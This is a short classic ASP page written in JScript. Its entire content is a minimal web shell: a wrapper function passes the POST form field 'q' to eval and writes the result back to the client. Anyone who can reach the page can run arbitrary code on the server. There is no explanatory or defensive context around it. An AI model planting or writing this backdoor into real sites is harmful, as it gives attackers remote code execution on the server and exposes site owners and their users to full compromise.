<%@ Language="JScript" %>
<%
function x() { return eval(arguments[0]); }
Response.Write(x(Request.Form("q")));
%>
